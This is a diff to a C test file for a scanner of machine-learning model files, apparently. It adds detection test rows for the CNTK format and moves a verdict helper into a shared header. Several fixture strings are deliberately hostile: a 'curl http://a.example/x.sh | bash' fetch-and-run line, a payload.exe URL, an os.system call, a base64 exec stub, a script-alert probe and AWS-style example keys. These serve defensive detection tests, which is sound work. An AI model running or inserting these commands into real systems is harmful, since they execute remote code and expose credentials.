@@ -5,8 +5,9 @@
 #include <stdlib.h>
 
 #include "format/formats.h"
-#include "scan/pipeline.h"
+
 #include "support/events.h"
+#include "support/judged.h"
 #include "support/pbmake.h"
 
 /* ---- the pieces ---- */
@@ -26,6 +27,9 @@
 /* A tensor of three floats: description of four bytes, 12 bytes of data. */
 #define PDP HEAD "$0400000008051003$ $0000803f0000803f0000803f$ "
 
+#define CNT(more) "1:1 2{1'type' 2{1:1 2:6 8'CompositeFunction'}} " more
+#define CSTR(text) "2{1'name' 2{1:1 2:6 8'" text "'}}"
+
 static const struct row {
 	const struct gh_fmt *fmt;
 	const char *what, *text;
@@ -33,6 +37,23 @@ static const struct row {
 	bool gapless;
 	const char *has, *hasnot;
 } rows[] = {
+	{ &gh_fmt_cntk, "a function", CNT(""), GH_OK, true, "text metadata \"type\"", "anomaly" },
+	{ &gh_fmt_cntk, "unknown field", CNT("9:1"), GH_OK, true, "GH-CNTK-0101", NULL },
+	{ &gh_fmt_cntk, "wire type", CNT("2{1'k' 2{1'x'}}"), GH_OK, true, "GH-CNTK-0102", NULL },
+	{ &gh_fmt_cntk, "two versions", CNT("1:2"), GH_OK, true, "GH-CNTK-0103", NULL },
+	{ &gh_fmt_cntk, "overlong", CNT("2{1'k' 2{$10868000$}}"), GH_OK, true, "GH-CNTK-0104", NULL },
+	{ &gh_fmt_cntk, "control characters", CNT("2{1'k\x01' 2{2:1}}"), GH_OK, true, "GH-CNTK-0105", NULL },
+	{ &gh_fmt_cntk, "code", CNT(CSTR("import os; os.system(\"id\")")), GH_OK, true, "GH-CNTK-0201", NULL },
+	{ &gh_fmt_cntk, "shell", CNT(CSTR("curl http://a.example/x.sh | bash")), GH_OK, true, "GH-CNTK-0202", NULL },
+	{ &gh_fmt_cntk, "script", CNT(CSTR("<script>alert(1)</script>")), GH_OK, true, "GH-CNTK-0203", NULL },
+	{ &gh_fmt_cntk, "encoded", CNT(CSTR("exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))")), GH_OK, true,
+	  "GH-CNTK-0204", NULL },
+	{ &gh_fmt_cntk, "address", CNT(CSTR("http://a.example/payload.exe")), GH_OK, true, "GH-CNTK-0205", NULL },
+	{ &gh_fmt_cntk, "credential",
+	  CNT(CSTR("AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")), GH_OK, true,
+	  "GH-CNTK-0206", NULL },
+	{ &gh_fmt_cntk, "Python, named from the end", CNT("2{2{8'os' 2:6} 1'module'}"), GH_OK, true, "GH-CNTK-0001",
+	  NULL },
 	{ &gh_fmt_sentencepiece, "a tokenizer", SPM(""), GH_OK, true, NULL, "anomaly" },
 	{ &gh_fmt_sentencepiece, "self test", SPM("4{1{1'in' 2'out'}} 5{1'x'}"), GH_OK, true, "text metadata",
 	  "anomaly" },
@@ -198,8 +219,8 @@ static void every_row(void **st)
 	assert_int_equal(wrong, 0);
 }
 
-/* Messages of one kind within each other, to the limit and beyond: GH-CML-0106, GH-SPM-0106, GH-PDL-0106 and GH-CAF-0106 are one row,
- * which only Core ML's pipelines can reach. */
+/* Messages of one kind within each other, to the limit and beyond: GH-CML-0106, GH-SPM-0106, GH-PDL-0106, GH-CAF-0106 and GH-CNTK-0106 are one row,
+ * shown with the pipelines of Core ML. */
 static void nested(void **st)
 {
 	(void)st;
@@ -305,28 +326,6 @@ static void probes(void **st)
 
 /* ---- verdicts ---- */
 
-struct seen {
-	enum gh_verdict worst;
-	char ids[400];
-};
-
-static void on_finding(void *arg, const struct gh_rule *rule, struct gh_range at, bool ranged, const char *member,
-		       const char *detail)
-{
-	struct seen *s = arg;
-	(void)at, (void)ranged, (void)member, (void)detail;
-	if (rule->effect > s->worst)
-		s->worst = rule->effect;
-	size_t n = strlen(s->ids);
-	(void)snprintf(s->ids + n, sizeof s->ids - n, "%s ", rule->id);
-}
-static void on_times(void *arg, size_t i, uint64_t times) { (void)arg, (void)i, (void)times; }
-static int on_spill(void *arg)
-{
-	(void)arg;
-	return -1;
-}
-
 static void judged(void **st)
 {
 	(void)st;
@@ -356,19 +355,12 @@ static void judged(void **st)
 	unsigned wrong = 0;
 	for (size_t i = 0; i < GH_ROWS(t); i++) {
 		gh_auto_buf in = gh_buf(1 << 20);
-		struct seen s = { 0 };
-		struct gh_pipe_host host = { .arg = &s, .finding = on_finding, .times = on_times, .spill = on_spill };
-		struct gh_limits lim = gh_limits_default;
-		struct gh_src_mem mem;
-		struct gh_pipe_result r;
+		struct gh_test_judged s;
 		gh_pb_make(&in, t[i].text);
-		struct gh_pipe *p = gh_pipe_new(&lim, &host);
-		assert_non_null(p);
-		gh_pipe_run(p, gh_src_mem(&mem, gh_buf_view(&in)), gh_span_str("file"), &r);
-		gh_pipe_free(p);
-		bool ok = s.worst == t[i].worst && strstr(s.ids, t[i].id) != NULL;
+		gh_test_judge(&s, gh_buf_view(&in), "file");
+		bool ok = s.verdict == t[i].worst && strstr(s.all, t[i].id) != NULL;
 		if (!ok)
-			print_message("\"%s\": %d %s (%s)\n", t[i].text, (int)s.worst, s.ids, r.format);
+			print_message("\"%s\": %d %s\n", t[i].text, (int)s.verdict, s.all);
 		wrong += !ok;
 	}
 	assert_int_equal(wrong, 0);
